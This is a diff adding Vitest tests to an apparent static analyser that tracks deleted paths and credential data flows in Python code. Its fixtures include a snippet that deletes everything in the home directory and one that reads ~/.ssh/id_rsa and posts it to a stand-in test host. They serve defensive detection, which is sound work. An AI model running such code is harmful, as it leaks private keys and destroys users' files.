@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import { LABEL } from '../js/labels.ts';
 import { analyzePython } from './facts.ts';
 
 /** What the deletions of a source are known to delete. */
@@ -53,4 +54,15 @@ test.each([
 test('what a function does to one folder is not what it does to the next', () => {
   const sweep = 'def sweep(root):\n  for path in root.glob("*"): path.unlink()\n';
   expect(deleted(`${sweep}sweep(Path("/tmp/own"))\nsweep(Path.home())\n`)).toEqual(['/tmp/own/*', '~/*']);
+});
+
+test('an item of a list that holds others as well may be any of its paths', () => {
+  const roots = 'roots = [Path(p) for p in given()] + [Path("/a"), Path("/b")]\n';
+  expect(deleted(`${roots}for path in roots: path.unlink()\n`)).toEqual(['$UNKNOWN', '/a', '/b']);
+});
+
+test('what is read may be the content of any of the files that a path means', () => {
+  const source =
+    'from pathlib import Path\nimport requests\nfor p in [Path(x) for x in given()] + [Path("~/.ssh/id_rsa")]:\n  requests.post("https://a.weir.test", p.read_text())\n';
+  expect((analyzePython(source).flow.flows[0]?.labels ?? 0) & LABEL.credential).toBe(LABEL.credential);
 });
